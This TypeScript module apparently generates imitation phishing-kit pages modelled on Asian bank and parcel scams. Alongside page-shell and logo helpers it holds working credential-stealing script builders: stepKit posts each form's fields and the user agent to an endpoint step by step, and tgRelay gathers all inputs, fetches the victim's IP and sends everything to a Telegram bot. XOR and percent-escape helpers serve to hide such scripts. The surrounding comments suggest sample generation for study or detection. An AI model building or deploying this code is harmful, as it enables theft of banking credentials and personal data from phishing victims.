// Shared furniture for the zr- pages: page shells, small logos, kit scripts seen across APAC kits.

export type DocOpts = { lang?: string; title: string; head?: string; css?: string; body: string; bodyAttrs?: string };

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
<style>
*{box-sizing:border-box}body{margin:0;font-family:-apple-system,"Segoe UI","Hiragino Kaku Gothic ProN","Malgun Gothic","Microsoft JhengHei",Roboto,Arial,sans-serif;color:#222;background:#f5f6f8;line-height:1.55}
a{color:#0b5cad}.wrap{max-width:1080px;margin:0 auto;padding:0 20px}
header.top{background:#fff;border-bottom:1px solid #e3e6ea}header.top .wrap{display:flex;align-items:center;justify-content:space-between;height:64px}
footer.bot{margin-top:48px;padding:28px 0;background:#20262e;color:#aab2bd;font-size:12px}footer.bot a{color:#cfd6df;margin-right:14px}
.card{background:#fff;border-radius:10px;box-shadow:0 2px 10px rgba(0,0,0,.06);padding:28px}
label{display:block;font-size:13px;margin:14px 0 6px;color:#444}input[type=text],input[type=password],input[type=email],input[type=tel],input[type=number],select{width:100%;padding:11px 12px;border:1px solid #c9ced6;border-radius:6px;font-size:15px}
.btn{display:inline-block;border:0;border-radius:6px;padding:12px 22px;font-size:15px;cursor:pointer;text-decoration:none}
${o.css ?? ''}
</style>
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** A flat square logo mark with initials (inline SVG, as kits and small sites both use). */
export function mark(text: string, bg: string, fg = '#fff', size = 40): string {
  return `<svg width="${size}" height="${size}" viewBox="0 0 40 40" role="img" aria-label="${text}"><rect width="40" height="40" rx="8" fill="${bg}"/><text x="20" y="26" font-size="${text.length > 2 ? 11 : 15}" font-family="Arial" font-weight="700" text-anchor="middle" fill="${fg}">${text}</text></svg>`;
}

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

/** Percent-escape every character (the unescape()/decodeURIComponent document.write style). */
export const pctAll = (s: string): string => Array.from(Buffer.from(s, 'utf8')).map((c) => '%' + c.toString(16).padStart(2, '0')).join('');

/** XOR + base64, decoded in-page with a key. */
export function xorB64(s: string, key: string): string {
  const b = Buffer.from(s, 'utf8');
  const out = Buffer.alloc(b.length);
  for (let i = 0; i < b.length; i += 1) out[i] = (b[i] ?? 0) ^ key.charCodeAt(i % key.length);
  return out.toString('base64');
}

/**
 * The step-by-step kit driver common in APAC bank/parcel kits: every form with data-step posts its fields
 * as form-encoded data to `endpoint`, then shows the next step (or leaves for `done`).
 */
export function stepKit(endpoint: string, done: string): string {
  return `<script>
(function(){
  var sid = (localStorage.getItem('sid') || Math.random().toString(36).slice(2));
  localStorage.setItem('sid', sid);
  var forms = document.querySelectorAll('form[data-step]');
  forms.forEach(function(f, i){
    f.addEventListener('submit', function(ev){
      ev.preventDefault();
      var fd = new FormData(f); fd.append('sid', sid); fd.append('step', f.getAttribute('data-step'));
      fd.append('ua', navigator.userAgent);
      var btn = f.querySelector('button'); if (btn) { btn.disabled = true; }
      fetch('${endpoint}', { method: 'POST', body: new URLSearchParams(fd) }).catch(function(){}).then(function(){
        var load = document.getElementById('loading'); if (load) load.style.display = 'flex';
        setTimeout(function(){
          if (load) load.style.display = 'none';
          if (btn) btn.disabled = false;
          f.style.display = 'none';
          if (forms[i+1]) { forms[i+1].style.display = 'block'; } else { location.href = '${done}'; }
        }, 1800);
      });
    });
  });
})();
</script>`;
}

/** A Telegram bot relay, the most common exfil in these kits. */
export function tgRelay(token: string, chat: string, formSel: string, next: string): string {
  return `<script>
document.querySelector('${formSel}').addEventListener('submit', function(e){
  e.preventDefault();
  var d = [];
  this.querySelectorAll('input,select').forEach(function(x){ if (x.name) d.push(x.name + ': ' + x.value); });
  fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).catch(function(){return {ip:'-'}}).then(function(j){
    var text = '[' + location.host + '] ' + j.ip + '\\n' + d.join('\\n');
    return fetch('https://api.telegram.org/bot${token}/sendMessage', { method: 'POST', headers: {'Content-Type':'application/json'}, body: JSON.stringify({ chat_id: '${chat}', text: text }) });
  }).finally(function(){ location.href = '${next}'; });
});
</script>`;
}

export const spinner = (msg: string): string => `<div id="loading" style="display:none;position:fixed;inset:0;background:rgba(255,255,255,.85);align-items:center;justify-content:center;flex-direction:column;z-index:99"><div style="width:42px;height:42px;border:4px solid #ddd;border-top-color:#888;border-radius:50%;animation:zrspin 1s linear infinite"></div><p style="margin-top:14px;color:#555">${msg}</p><style>@keyframes zrspin{to{transform:rotate(360deg)}}</style></div>`;

export function footer(links: string[], copy: string): string {
  return `<footer class="bot"><div class="wrap">${links.map((l) => `<a href="#">${l}</a>`).join('')}<p>${copy}</p></div></footer>`;
}
